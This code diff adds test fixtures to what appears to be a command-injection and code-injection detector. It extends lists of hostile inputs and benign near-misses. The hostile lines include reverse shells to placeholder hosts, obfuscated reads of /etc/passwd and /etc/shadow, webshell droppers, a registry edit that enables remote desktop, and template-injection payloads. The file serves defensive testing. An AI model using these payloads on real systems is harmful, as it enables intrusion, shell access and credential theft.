@@ -65,6 +65,18 @@ COMMANDS = {
     "unix": ["; cat /etc/passwd", "| id", "&& sleep 5", "; ping -c 10 127.0.0.1", "|curl http://x.example/a.sh",
              "; nc -e /bin/sh 10.0.0.1 4444", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "cat /etc/shadow",
              "ls -la /", "() { :; }; /bin/bash -c id", "whoami", "; uname -a", "which nc"],
+    # cmdi16: shapes written from the dev split's misses
+    "wider vocabulary": [";irb<<<1 2", ";lastlogin -u admin", ";rmt --version", ";ssh-copy-id user@server", ";top",
+                         "x;uconv -f utf-8 -t utf-8 /etc/?asswd", "& sysinfo", "' tcpdump -i eth0"],
+    "runner at the start": ["'time' who", '"time" who', "ti''me who"],
+    "alias definitions": ["alias 'letter'=curl", "alias alias='curl'", "alias ls-al='ls -al'\n", "alias a=b",
+                          "alias +g+ a=b"],
+    "cmd.exe if": ["if (AA) == (AA) echo same", "if (%1)==(LTRS) CD C:\\WORD\\LTRS", "if/i a==b foo"],
+    "brace affixes": ["{l,-lh}s", "c{a,oun}t", "{,ifconfig}", "{,$'whoami',}", "{n$u\\c$u,-nlvp,777}\n"],
+    "expansions": ["~+", "~+5", "~-1", "${PATH#{}/}", "${x#{}}", "cat ${HOME:0:1}etc${HOME:0:1}passwd",
+                   "cat ${test//hh??hm/}"],
+    "split words": ["'i'p a", "/bin/ca't' /et*/passwd", '";\\n. shell nc 10.10.10.1 6666 -e sh\\n',
+                    'reg add "HKLM\\System\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f'],
 }
 COMMAND_NEAR_MISSES = [
     "R&D department network", "salt & type of pepper", "Tom & net profit 2024", "the dir command lists files",
@@ -83,6 +95,13 @@ COMMAND_NEAR_MISSES = [
     "Use chef; chef is nice", "I love ansible", "'hello' world",
     "* The GNU `nroff` test in `configure` now works when `/bin/sh` is `ash`.",
     "pip\n", "top\n", "date\n", "Dear team,\r\nHelp is on the way", "Notes:\nquit smoking", "a\nstore 2 apples",
+    # cmdi16 near misses: a program's path or name as a value starts, a tag list, a runner in prose, alias talk,
+    # code comparisons, plain brace lists and file sets, an approximate number, quotes inside prose words
+    "/usr/bin/tcpdump", "git clone https://github.com/x/y.git", "hp|gen|top|women", "Tom & top", "time who knows",
+    "alias of the user", "if (a == b) { run() }", "if you (really) want", "file{1,2}.txt", "{id,name,ts}",
+    "~5 minutes", "~ 10", "${price}", "${user.name}", "rock'n'roll", "'cat' food", "don't 'go'",
+    "ssh-agent is running", "reg add is how a script writes a key to the registry on each start",
+    "net user growth was strong this year and more came later on",
 ]
 CODE_PAYLOADS = {
     "php": ["<?php system($_GET['c']); ?>", "<?=`id`?>", ";system('id')", "system('cat /etc/passwd');",
@@ -105,7 +124,8 @@ CODE_PAYLOADS = {
                  "{{lipsum.__globals__.os.popen('id')}}", "{{ cycler.__init__.__globals__.os }}",
                  "{php}echo `id`;{/php}", "{$smarty.version}", "<%= `ls` %>", "<%= File.open('/etc/passwd').read %>",
                  "{{constructor.constructor('return process')()}}", "*{T(java.lang.Runtime).getRuntime()}",
-                 "{{ ['id']|filter('system') }}", "{% if True %}49{% endif %}", "<% if 1 %>49<% endif %>"],
+                 "{{ ['id']|filter('system') }}", "{% if True %}49{% endif %}", "<% if 1 %>49<% endif %>",
+                 "${(6?lower_abc+18?lower_abc+5?lower_abc)?new()}", "${(9?upper_abc+4?upper_abc)}"],
     "webshell": ["echo '<?php system($_GET[1]); ?>' > x.php", "x; echo PD9waHA= | base64 -d > shell.php",
                  "curl http://10.0.0.9/s.txt -o /var/www/html/s.php", "printf '<%=x%>' > /srv/a.jsp"],
 }
@@ -120,6 +140,7 @@ CODE_NEAR_MISSES = [
     "array_diff (see the manual) compares arrays", "C# (C sharp)", "Cost: $ 5 {net}", "the \"system\" (ours)",
     "<?xml version=\"1.0\" encoding=\"utf-8\"?>", "(note)(2)", "$a (dollar a)",
     "`require('myModule2')`.", "the process. Then", "{% if user.is_admin %}", "a process [1] ran",
+    "${count?c}", "${name?lower_case}", "${abc}",
 ]
 
 
